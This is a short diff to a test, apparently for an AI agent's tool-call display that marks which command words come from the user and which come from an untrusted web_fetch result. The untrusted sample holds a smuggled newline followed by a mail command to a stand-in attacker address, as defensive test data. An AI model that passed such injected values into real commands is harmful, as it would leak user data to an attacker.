@@ -157,6 +157,6 @@ def test_it_says_where_the_arguments_come_from() -> None:
         "  Where these words come from:",
         "  Your message:",
         "  │ command: bob@example.com",
-        "  A result, from web_fetch, untrusted:",
+        "  The result of a call, from web_fetch, untrusted:",
         "  │ command: e.com<U+000A>mail mallory@evil.example",
     ]
